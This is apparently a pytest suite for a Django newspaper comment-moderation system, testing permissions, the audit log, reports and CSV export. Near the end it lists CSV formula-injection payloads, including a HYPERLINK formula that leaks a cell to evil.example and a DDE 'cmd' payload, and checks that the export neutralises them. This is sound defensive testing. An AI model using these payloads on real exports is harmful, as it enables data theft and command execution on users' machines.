"""Moderators decide; everybody else cannot. Every decision is recorded, and the log cannot be rewritten."""

import csv
import io

import pytest
from django.contrib.auth.models import Permission, User
from django.core.exceptions import PermissionDenied, ValidationError

from comments import services
from comments.models import Comment, CommentFlag, CommentReport, ModerationDecision
from tests.factories import ArticleFactory, CommentFactory, moderator_user

pytestmark = pytest.mark.django_db

PENDING, APPROVED, REJECTED, SPAM = (
    Comment.Status.PENDING,
    Comment.Status.APPROVED,
    Comment.Status.REJECTED,
    Comment.Status.SPAM,
)


@pytest.fixture
def article_rights_only():
    """Staff with every right on articles and none on comments."""
    user = User.objects.create_user("bientap", password="mat-khau-dai-123", is_staff=True)
    user.user_permissions.set(Permission.objects.filter(content_type__app_label="articles"))
    return user


def test_queue_lists_pending_oldest_first_with_article_and_reasons(client, moderator):
    article = ArticleFactory(title="Mùa lúa chín")
    newer = CommentFactory(article=article, status=PENDING, body="Bình luận mới hơn của bạn đọc.")
    older = CommentFactory(article=article, status=PENDING, body="Bình luận cũ hơn của bạn đọc.")
    Comment.objects.filter(pk=older.pk).update(submitted_at=newer.submitted_at.replace(year=2020))
    CommentFlag.objects.create(comment=newer, code=CommentFlag.Code.LINK, detail="www.raovat.vn")
    CommentFactory(article=article, status=APPROVED, body="Đã duyệt rồi, không nằm trong hàng đợi.")
    client.force_login(moderator)
    text = client.get("/kiem-duyet/").text
    assert text.index("Bình luận cũ hơn") < text.index("Bình luận mới hơn")
    assert "Đã duyệt rồi" not in text
    assert "Mùa lúa chín" in text and article.get_absolute_url() in text
    assert 'class="reason reason-link">Có liên kết: www.raovat.vn' in text


def test_queue_filters_by_status_reason_and_article(client, moderator):
    first, second = ArticleFactory(), ArticleFactory()
    linked = CommentFactory(article=first, status=PENDING, body="Có link ở đây nhé bạn đọc.")
    CommentFlag.objects.create(comment=linked, code=CommentFlag.Code.LINK)
    CommentFactory(article=second, status=PENDING, body="Bình luận ở bài thứ hai.")
    CommentFactory(article=first, status=SPAM, body="Bình luận spam quảng cáo.")
    client.force_login(moderator)
    assert "Bình luận ở bài thứ hai." not in client.get("/kiem-duyet/?ly-do=link").text
    by_article = client.get(f"/kiem-duyet/?bai={second.pk}").text
    assert "Bình luận ở bài thứ hai." in by_article and "Có link ở đây" not in by_article
    assert "Bình luận spam quảng cáo." in client.get("/kiem-duyet/?trang-thai=spam").text


def test_queue_query_count_does_not_grow_with_comments(client, moderator, django_assert_max_num_queries):
    client.force_login(moderator)
    CommentFactory(status=PENDING)
    with django_assert_max_num_queries(13) as captured:
        client.get("/kiem-duyet/")
    baseline = len(captured)
    for comment in CommentFactory.create_batch(30, status=PENDING):
        CommentFlag.objects.create(comment=comment, code=CommentFlag.Code.LINK)
    with django_assert_max_num_queries(baseline):
        response = client.get("/kiem-duyet/")
    assert response.text.count('class="queue-item"') == 31


def test_moderator_approves_one_comment_and_the_decision_is_logged(client, moderator):
    comment = CommentFactory(status=PENDING)
    client.force_login(moderator)
    response = client.post(
        "/kiem-duyet/quyet-dinh/",
        {"single": f"{comment.pk}:approved", "next": "/kiem-duyet/?trang-thai=pending"},
    )
    assert response.status_code == 302 and response["Location"] == "/kiem-duyet/?trang-thai=pending"
    comment.refresh_from_db()
    assert comment.status == APPROVED
    decision = ModerationDecision.objects.get()
    assert (decision.moderator, decision.from_status, decision.to_status) == (moderator, PENDING, APPROVED)


def test_bulk_decision_moves_every_selected_comment_with_the_note(client, moderator):
    comments = CommentFactory.create_batch(3, status=PENDING)
    client.force_login(moderator)
    client.post(
        "/kiem-duyet/quyet-dinh/",
        {"comments": [c.pk for c in comments[:2]], "action": "spam", "note": "Quảng cáo hàng loạt"},
    )
    assert list(Comment.objects.order_by("pk").values_list("status", flat=True)) == [SPAM, SPAM, PENDING]
    assert set(ModerationDecision.objects.values_list("note", flat=True)) == {"Quảng cáo hàng loạt"}


def test_next_url_to_another_host_is_not_followed(client, moderator):
    comment = CommentFactory(status=PENDING)
    client.force_login(moderator)
    response = client.post(
        "/kiem-duyet/quyet-dinh/", {"single": f"{comment.pk}:rejected", "next": "https://evil.example/"}
    )
    assert response["Location"] == "/kiem-duyet/"


def test_invalid_decision_changes_nothing(client, moderator):
    comment = CommentFactory(status=PENDING)
    client.force_login(moderator)
    client.post("/kiem-duyet/quyet-dinh/", {"single": f"{comment.pk}:deleted"})
    comment.refresh_from_db()
    assert comment.status == PENDING
    assert not ModerationDecision.objects.exists()


def test_same_decision_twice_is_refused_and_logged_once(moderator):
    comment = CommentFactory(status=PENDING)
    services.moderate_comment(comment=comment, moderator=moderator, to_status=APPROVED)
    with pytest.raises(ValidationError) as refused:
        services.moderate_comment(comment=comment, moderator=moderator, to_status=APPROVED)
    assert refused.value.code == "unchanged"
    assert ModerationDecision.objects.count() == 1


def test_anonymous_reader_is_sent_to_login(client):
    response = client.get("/kiem-duyet/")
    assert response.status_code == 302 and "/quan-tri/login/" in response["Location"]
    comment = CommentFactory(status=PENDING)
    client.post("/kiem-duyet/quyet-dinh/", {"single": f"{comment.pk}:approved"})
    comment.refresh_from_db()
    assert comment.status == PENDING


@pytest.mark.parametrize("who", ["reader", "article_rights_only"])
def test_reader_or_editor_cannot_moderate(client, article_rights_only, who):
    user = (
        article_rights_only
        if who == "article_rights_only"
        else User.objects.create_user("bandoc", password="mat-khau-dai-123")
    )
    comment = CommentFactory(status=PENDING)
    client.force_login(user)
    assert client.get("/kiem-duyet/").status_code == 403
    assert client.post("/kiem-duyet/quyet-dinh/", {"single": f"{comment.pk}:approved"}).status_code == 403
    assert client.get("/kiem-duyet/nhat-ky/").status_code == 403
    with pytest.raises(PermissionDenied):
        services.moderate_comment(comment=comment, moderator=user, to_status=APPROVED)
    comment.refresh_from_db()
    assert comment.status == PENDING


def test_moderator_cannot_edit_articles(client, moderator):
    article = ArticleFactory()
    client.force_login(moderator)
    assert client.get(f"/quan-tri/articles/article/{article.pk}/change/").status_code == 403
    assert client.get("/quan-tri/articles/article/add/").status_code == 403


def test_admin_action_uses_the_same_service_and_logs(client, moderator):
    comments = CommentFactory.create_batch(2, status=PENDING)
    client.force_login(moderator)
    response = client.post(
        "/quan-tri/comments/comment/",
        {"action": "mark_rejected", "_selected_action": [c.pk for c in comments]},
    )
    assert response.status_code == 302
    assert set(Comment.objects.values_list("status", flat=True)) == {REJECTED}
    assert ModerationDecision.objects.filter(moderator=moderator, to_status=REJECTED).count() == 2


def test_admin_hides_moderation_actions_from_staff_without_the_right(client, article_rights_only):
    article_rights_only.user_permissions.add(Permission.objects.get(codename="view_comment"))
    client.force_login(article_rights_only)
    response = client.get("/quan-tri/comments/comment/")
    assert response.status_code == 200
    assert "mark_approved" not in response.text


def test_decision_log_is_append_only(moderator):
    comment = CommentFactory(status=PENDING)
    decision = services.moderate_comment(comment=comment, moderator=moderator, to_status=SPAM)
    decision.note = "sửa lại"
    with pytest.raises(ValidationError):
        decision.save()
    with pytest.raises(ValidationError):
        decision.delete()
    assert ModerationDecision.objects.get().note == ""


def test_decision_log_filters_and_exports_csv(client, moderator):
    other = moderator_user("kiemduyet2")
    article = ArticleFactory(title="Lễ hội hoa ban")
    services.moderate_comment(
        comment=CommentFactory(article=article, status=PENDING), moderator=moderator, to_status=APPROVED
    )
    services.moderate_comment(
        comment=CommentFactory(article=article, status=PENDING), moderator=other, to_status=SPAM, note="rác"
    )
    client.force_login(moderator)
    page = client.get(f"/kiem-duyet/nhat-ky/?nguoi={other.pk}").text
    assert "kiemduyet2" in page and "rác" in page
    response = client.get("/kiem-duyet/nhat-ky/?sang=spam&dinh-dang=csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:2] == ["Thời điểm (GMT+7)", "Kiểm duyệt viên"]
    assert [row[1:] for row in rows[1:]] == [
        ["kiemduyet2", str(rows[1][2]), "Lễ hội hoa ban", "Chờ duyệt", "Spam", "rác"]
    ]


def test_reader_reports_an_approved_comment_into_the_report_queue(client, moderator):
    comment = CommentFactory(body="Bình luận bị báo cáo vì thô tục.")
    form = client.get(f"/binh-luan/{comment.pk}/bao-vi-pham/")
    assert form.status_code == 200 and "Báo vi phạm" in form.text
    response = client.post(
        f"/binh-luan/{comment.pk}/bao-vi-pham/", {"reason": "offensive", "detail": "Lời lẽ xúc phạm"}
    )
    assert response["Location"] == f"{comment.article.get_absolute_url()}?binh-luan=da-bao-cao#binh-luan"
    client.post(f"/binh-luan/{comment.pk}/bao-vi-pham/", {"reason": "offensive"})
    assert CommentReport.objects.count() == 1
    client.force_login(moderator)
    queue = client.get("/kiem-duyet/bao-cao/").text
    assert "Bình luận bị báo cáo vì thô tục." in queue and "Lời lẽ xúc phạm" in queue


def test_report_without_reason_keeps_the_detail_and_explains(client):
    comment = CommentFactory()
    response = client.post(
        f"/binh-luan/{comment.pk}/bao-vi-pham/", {"reason": "", "detail": "Nội dung tôi đã gõ"}
    )
    assert response.status_code == 200
    assert "Vui lòng chọn lý do." in response.text and "Nội dung tôi đã gõ" in response.text
    assert not CommentReport.objects.exists()


def test_report_queue_holds_only_comments_with_open_reports(client, moderator):
    reported = CommentFactory(body="Bình luận có người báo cáo.")
    CommentFactory(article=reported.article, body="Bình luận không ai báo cáo.")
    answered = CommentFactory(article=reported.article, body="Bình luận đã xử lý báo cáo.")
    services.report_comment(comment=reported, reason="spam", ip_address="198.51.100.1")
    services.report_comment(comment=answered, reason="spam", ip_address="198.51.100.1")
    services.resolve_reports(comment=answered, moderator=moderator)
    client.force_login(moderator)
    text = client.get("/kiem-duyet/bao-cao/").text
    assert "Bình luận có người báo cáo." in text
    assert "không ai báo cáo" not in text and "đã xử lý báo cáo" not in text
    assert "1 bình luận bị báo vi phạm" in client.get("/kiem-duyet/").text


def test_pending_comment_cannot_be_reported(client):
    comment = CommentFactory(status=PENDING)
    assert client.post(f"/binh-luan/{comment.pk}/bao-vi-pham/", {"reason": "spam"}).status_code == 404


def test_rejecting_a_reported_comment_closes_its_reports(client, moderator):
    comment = CommentFactory()
    services.report_comment(comment=comment, reason="spam", ip_address="198.51.100.1")
    client.force_login(moderator)
    client.post(
        "/kiem-duyet/quyet-dinh/", {"single": f"{comment.pk}:rejected", "next": "/kiem-duyet/bao-cao/"}
    )
    assert CommentReport.objects.get().resolved_by == moderator
    assert "Không có báo cáo vi phạm nào đang chờ." in client.get("/kiem-duyet/bao-cao/").text


def test_keeping_a_reported_comment_closes_its_reports_and_keeps_it(client, moderator):
    comment = CommentFactory()
    services.report_comment(comment=comment, reason="false", ip_address="198.51.100.1")
    client.force_login(moderator)
    client.post(f"/kiem-duyet/bao-cao/{comment.pk}/giu-lai/")
    comment.refresh_from_db()
    assert comment.status == APPROVED
    assert CommentReport.objects.get().resolved_at is not None


def test_staff_reply_is_published_with_the_newspaper_badge(client, moderator):
    comment = CommentFactory(body="Xin hỏi khi nào đường được sửa xong?")
    client.force_login(moderator)
    client.post(
        f"/kiem-duyet/{comment.pk}/tra-loi/", {"body": "Tòa soạn sẽ liên hệ Sở Giao thông và thông tin lại."}
    )
    reply = Comment.objects.get(parent=comment)
    assert reply.status == APPROVED and reply.staff_author == moderator
    client.logout()
    page = client.get(comment.article.get_absolute_url()).text
    assert '<span class="badge">Tòa soạn</span>' in page
    assert page.index("Xin hỏi khi nào") < page.index("Tòa soạn sẽ liên hệ")


def test_staff_reply_to_a_pending_comment_is_refused(client, moderator):
    comment = CommentFactory(status=PENDING)
    client.force_login(moderator)
    client.post(f"/kiem-duyet/{comment.pk}/tra-loi/", {"body": "Trả lời"})
    assert not Comment.objects.filter(parent=comment).exists()


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"bấm")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("payload", FORMULAS)
def test_decision_log_export_neutralises_formulas_from_titles_and_notes(client, moderator, payload):
    article = ArticleFactory(title=f"{payload}")
    services.moderate_comment(
        comment=CommentFactory(article=article, status=PENDING),
        moderator=moderator,
        to_status=SPAM,
        note=payload,
    )
    client.force_login(moderator)
    response = client.get("/kiem-duyet/nhat-ky/?dinh-dang=csv")
    [header, row] = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    title, note = row[3], row[6]
    for cell in (title, note):
        # Quoted, so the spreadsheet shows the text as typed instead of running it.
        assert cell.startswith("'") and payload.strip() in cell
